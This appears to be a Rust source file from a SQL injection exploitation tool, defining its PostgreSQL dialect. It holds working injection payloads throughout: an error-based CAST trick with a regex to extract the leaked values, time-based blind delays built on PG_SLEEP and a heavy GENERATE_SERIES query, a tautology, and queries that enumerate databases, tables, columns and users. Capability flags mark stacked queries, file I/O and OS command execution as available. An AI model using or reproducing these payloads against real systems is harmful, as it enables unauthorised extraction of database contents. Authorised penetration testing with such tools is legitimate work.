use super::{Capabilities, Dialect, PayloadTemplate};
use crate::sqli::core::enums::DBMS;
use once_cell::sync::Lazy;
use regex::Regex;

static CAST_ERROR: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r#"(?m)invalid input syntax for (?:type )?[a-z ]+: "(.*?)"\s*(?:<|$)"#).unwrap()
});

const ERROR_PAYLOADS: &[PayloadTemplate] = &[PayloadTemplate {
    name: "cast",
    template: "1=CAST(({expr})::text AS NUMERIC)",
    dbms: DBMS::PostgreSQL,
    columns: 1,
}];

#[derive(Debug, Clone, Copy, Default)]
pub struct Postgres;

impl Dialect for Postgres {
    fn dbms(&self) -> DBMS {
        DBMS::PostgreSQL
    }

    fn concatenate(&self, parts: &[&str]) -> String {
        parts.join("||")
    }

    fn char_of(&self, code: u32) -> String {
        format!("chr({})", code)
    }

    fn version_query(&self) -> &'static str {
        "VERSION()"
    }

    fn current_user_query(&self) -> &'static str {
        "CURRENT_USER"
    }

    fn current_db_query(&self) -> &'static str {
        "CURRENT_DATABASE()"
    }

    fn hostname_query(&self) -> &'static str {
        "INET_SERVER_ADDR()::text"
    }

    fn databases_query(&self) -> String {
        "SELECT string_agg(datname,'|') FROM pg_database".to_string()
    }

    fn tables_query(&self, database: &str) -> String {
        format!(
            "SELECT string_agg(tablename,'|') FROM pg_tables WHERE schemaname={}",
            self.quote_string(database)
        )
    }

    fn columns_query(&self, database: &str, table: &str) -> String {
        format!(
            "SELECT string_agg(column_name,'|') FROM information_schema.columns WHERE table_schema={} AND table_name={}",
            self.quote_string(database),
            self.quote_string(table)
        )
    }

    fn sleep_function(&self, seconds: u64) -> Option<String> {
        Some(format!("PG_SLEEP({})", seconds))
    }

    fn heavy_query(&self, seconds: u64) -> String {
        format!(
            "(SELECT COUNT(*) FROM GENERATE_SERIES(1,{}))",
            seconds * 5_000_000
        )
    }

    fn error_payloads(&self) -> &'static [PayloadTemplate] {
        ERROR_PAYLOADS
    }

    fn error_pattern(&self) -> Option<&'static Regex> {
        Some(&CAST_ERROR)
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            stacked_queries: true,
            error_based: true,
            union: true,
            file_io: true,
            os_exec: true,
            subqueries: true,
            case_when: true,
            limit_offset: true,
        }
    }

    fn tautology(&self) -> &'static str {
        "PG_BACKEND_PID()=PG_BACKEND_PID()"
    }

    // PG_SLEEP returns void, so the delay goes through a FROM clause
    fn conditional_delay(&self, condition: &str, seconds: u64) -> String {
        format!(
            "1=(SELECT 1 FROM PG_SLEEP((CASE WHEN ({}) THEN {} ELSE 0 END)))",
            condition, seconds
        )
    }
}
